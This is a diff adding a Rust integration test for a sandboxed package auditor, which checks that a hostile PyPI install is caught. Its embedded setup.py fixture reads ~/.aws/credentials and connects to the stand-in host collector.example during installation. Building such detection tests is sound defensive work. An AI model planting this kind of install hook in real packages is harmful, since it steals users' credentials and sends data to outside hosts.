@@ -1,0 +1,192 @@
+//! The install phase, end to end: a PyPI package whose `setup.py` reads a planted secret and
+//! connects to a host of its own while it is being installed. The installer (uv, or pip in a
+//! venv) runs in the sandbox; the registry (PyPI, for the build's setuptools) is relayed and
+//! explained; the rest is evidence against the package, in phase `install`.
+//!
+//! The package is a local sdist offered through find-links (`UV_FIND_LINKS`,
+//! `PIP_FIND_LINKS`): PyPI has no project of that name, so the local one is what installs.
+//! Its own connection goes to `collector.example` (a name under `.example`), which the
+//! edge's DNS answers with a synthetic address: nothing leaves.
+
+use glassbox_audit::install::PackageSpec;
+use glassbox_audit::{audit, AuditOptions, Quiet};
+use glassbox_checks::Proofs;
+use glassbox_model::{NetworkMode, Outcome, Phase};
+use std::path::Path;
+
+const SETUP_PY: &str = r#"
+import os, socket
+from setuptools import setup
+# What a hostile install script does: read a credential, call home.
+try:
+    open(os.path.expanduser("~/.aws/credentials")).read()
+except OSError:
+    pass
+try:
+    s = socket.create_connection(("collector.example", 443), timeout=3)
+    s.sendall(b"hello")
+    s.close()
+except OSError:
+    pass
+setup(
+    name="gb-install-probe",
+    version="1.0.0",
+    py_modules=["gb_install_probe"],
+    entry_points={"console_scripts": ["gb-install-probe=gb_install_probe:main"]},
+)
+"#;
+
+/// A minimal MCP stdio server: initialize, an empty tool list.
+const SERVER_PY: &str = r#"
+import json, sys
+def main():
+    for line in sys.stdin:
+        msg = json.loads(line)
+        if "id" not in msg:
+            continue
+        if msg["method"] == "initialize":
+            result = {"protocolVersion": msg["params"]["protocolVersion"], "capabilities": {"tools": {}},
+                      "serverInfo": {"name": "probe", "version": "1.0.0"}}
+        elif msg["method"] == "tools/list":
+            result = {"tools": []}
+        else:
+            print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "error": {"code": -32601, "message": "no"}}), flush=True)
+            continue
+        print(json.dumps({"jsonrpc": "2.0", "id": msg["id"], "result": result}), flush=True)
+"#;
+
+fn sdist(dir: &Path) {
+    let src = dir.join("gb_install_probe-1.0.0");
+    std::fs::create_dir_all(&src).unwrap();
+    std::fs::write(src.join("setup.py"), SETUP_PY).unwrap();
+    std::fs::write(src.join("gb_install_probe.py"), SERVER_PY).unwrap();
+    std::fs::write(
+        src.join("PKG-INFO"),
+        "Metadata-Version: 2.1\nName: gb-install-probe\nVersion: 1.0.0\n",
+    )
+    .unwrap();
+    let ok = std::process::Command::new("tar")
+        .args([
+            "czf",
+            "gb_install_probe-1.0.0.tar.gz",
+            "gb_install_probe-1.0.0",
+        ])
+        .current_dir(dir)
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok, "tar failed");
+    std::fs::remove_dir_all(&src).unwrap();
+}
+
+#[test]
+fn an_install_script_that_reads_a_secret_and_calls_home_is_caught_in_phase_install() {
+    let tmp = std::env::temp_dir().join(format!("gb-install-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&tmp);
+    let links = tmp.join("links");
+    std::fs::create_dir_all(&links).unwrap();
+    sdist(&links);
+    // This test binary's own environment: the installer settings glassbox passes through.
+    std::env::set_var("UV_FIND_LINKS", &links);
+    std::env::set_var("PIP_FIND_LINKS", &links);
+    std::env::set_var("GLASSBOX_STATE_DIR", tmp.join("state"));
+
+    let mut o = AuditOptions::new(Vec::new(), tmp.clone());
+    o.package = PackageSpec::parse("pypi:gb-install-probe==1.0.0").unwrap();
+    o.extra_ro = vec![links.clone()];
+    o.evidence_dir = Some(tmp.join("evidence"));
+    o.proofs = Some(Proofs::all_proven());
+    let a = audit(&o, &Quiet).expect("audit");
+    let m = &a.evidence.manifest;
+
+    let install = m.install.as_ref().expect("install record");
+    assert!(!install.cached && install.failure.is_none(), "{install:?}");
+    assert!(
+        install
+            .packages
+            .iter()
+            .any(|p| p.starts_with("gb_install_probe==1.0.0")
+                || p.starts_with("gb-install-probe==1.0.0")),
+        "{:?}",
+        install.packages
+    );
+    let package = m.target.package.as_ref().expect("package");
+    assert_eq!(
+        (package.name.as_str(), package.version.as_str()),
+        ("gb-install-probe", "1.0.0")
+    );
+    assert_eq!(m.network.runs[0].mode, NetworkMode::Install);
+    assert!(m.network.runs[0].isolation_verified);
+    assert!(
+        a.report.tools.is_empty() && m.session.completed,
+        "{:?}",
+        m.session
+    );
+
+    let check = |id: &str| {
+        a.report
+            .checks
+            .iter()
+            .find(|c| c.id == id)
+            .unwrap_or_else(|| panic!("{id}"))
+    };
+    // The secret read by setup.py: an accusation, in phase install.
+    let cred = check("credential-probe");
+    assert_eq!(cred.outcome, Outcome::Flag, "{cred:?}");
+    assert!(
+        cred.findings
+            .iter()
+            .any(|f| f.summary.contains(".aws/credentials") && f.phase == Some(Phase::Install)),
+        "{:?}",
+        cred.findings
+    );
+    // Its own host is egress of the install run; the registry is not.
+    let egress = check("unexplained-egress");
+    let summaries: Vec<&str> = egress.findings.iter().map(|f| f.summary.as_str()).collect();
+    assert!(
+        summaries
+            .iter()
+            .any(|s| s.contains("collector.example") && s.contains("install run")),
+        "{summaries:?}"
+    );
+    assert!(
+        !summaries
+            .iter()
+            .any(|s| s.contains("pypi.org") || s.contains("pythonhosted")),
+        "{summaries:?}"
+    );
+    // The registry was really reached through the relay.
+    assert!(
+        a.evidence
+            .flows
+            .iter()
+            .any(|f| f.mode == NetworkMode::Install
+                && f.note
+                    .as_deref()
+                    .is_some_and(|n| n.starts_with("relayed to "))
+                && f.bytes_in > 0),
+        "no relayed flow"
+    );
+
+    // A second audit of the same version reuses the install: no install run, same folder.
+    let mut o2 = o.clone();
+    o2.evidence_dir = Some(tmp.join("evidence2"));
+    let b = audit(&o2, &Quiet).expect("second audit");
+    let again = b
+        .evidence
+        .manifest
+        .install
+        .as_ref()
+        .expect("install record");
+    assert!(again.cached, "{again:?}");
+    assert_eq!(again.installed_by, m.run_id);
+    assert_eq!(again.dir, install.dir);
+    assert!(b
+        .evidence
+        .manifest
+        .network
+        .runs
+        .iter()
+        .all(|r| r.mode != NetworkMode::Install));
+    let _ = std::fs::remove_dir_all(&tmp);
+}
